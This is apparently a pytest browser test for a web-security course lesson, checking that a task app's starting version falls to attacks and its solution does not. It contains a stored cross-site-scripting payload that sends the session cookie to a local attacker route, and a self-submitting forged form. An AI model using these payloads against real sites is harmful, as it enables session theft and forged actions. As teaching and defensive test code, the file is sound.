"""Lesson 9 in a real browser: a page on another origin attacks the start with success, and the solution without."""

import runpy
from threading import Thread

import pytest
from flask import Flask, request
from servers import wait_until
from werkzeug.serving import make_server

from taskapi.extensions.lessons.lesson_files import COURSE, LESSONS

pytestmark = [pytest.mark.slow, pytest.mark.one_database]

LOG_IN = """async () => {
  const headers = {"Content-Type": "application/json"};
  const body = JSON.stringify({username: "ada", password: "analytical engine"});
  return (await fetch("/login", {method: "POST", headers, body})).json();
}"""
ADD_TASK = """async ([title, csrf]) => {
  const headers = {"Content-Type": "application/json", "X-CSRF-Token": csrf};
  return (await fetch("/tasks", {method: "POST", headers, body: JSON.stringify({title})})).status;
}"""
READ = "url => fetch(url, {credentials: 'include'}).then(answer => answer.text()).catch(() => 'nothing')"


def serve(app):
    """Serve an application on a free port, and return the server. The caller shuts it down."""
    server = make_server("127.0.0.1", 0, app, threaded=True)
    Thread(target=server.serve_forever).start()
    return server


def attacker(stolen):
    """Return a site with a form that sends itself, and a route that stores what a script sends away."""
    app = Flask("attacker")

    @app.get("/form")
    def show_form():
        form = f'<form method="post" action="{request.args["to"]}"><input name="title" value="Forged"></form>'
        return f"{form}<script>document.forms[0].submit()</script>"

    @app.get("/stolen")
    def store():
        stolen.append(request.args["cookie"])
        return ""

    @app.get("/")
    def show_empty_page():
        return "<!doctype html><title>Attacker</title>"

    return app


@pytest.mark.parametrize("file", ["start.py", "solution.py"])
def test_other_site_attacks_page_of_lesson_9(browser, file):
    program = runpy.run_path(str(COURSE / LESSONS[9] / file))
    stolen = []
    service, evil = serve(program["app"]), serve(attacker(stolen))
    here, there = (f"http://127.0.0.1:{server.server_port}" for server in (service, evil))
    context = browser.new_context()
    try:
        page = context.new_page()
        page.goto(f"{here}/login")  # any page of this origin
        csrf = page.evaluate(LOG_IN).get("csrf", "")
        script = f"<script>fetch('{there}/stolen?cookie=' + encodeURIComponent(document.cookie))</script>"
        assert page.evaluate(ADD_TASK, [script, csrf]) == 201
        page.goto(here)
        if file == "start.py":
            wait_until(lambda: stolen)  # the script sends the cookie away
            assert stolen[0].startswith("token=")
        page.goto(f"{there}/form?to={here}/tasks")
        page.wait_for_url(f"{here}/tasks")
        page.goto(there)
        read = page.evaluate(READ, here)
    finally:
        context.close()
        for server in (service, evil):
            server.shutdown()
            server.server_close()
    titles = [task["title"] for task in program["TASKS"]]
    if file == "start.py":
        assert ("Forged" in titles, "Tasks of ada" in read) == (True, True)
    else:
        assert (stolen, titles, read) == ([], [script], "nothing")
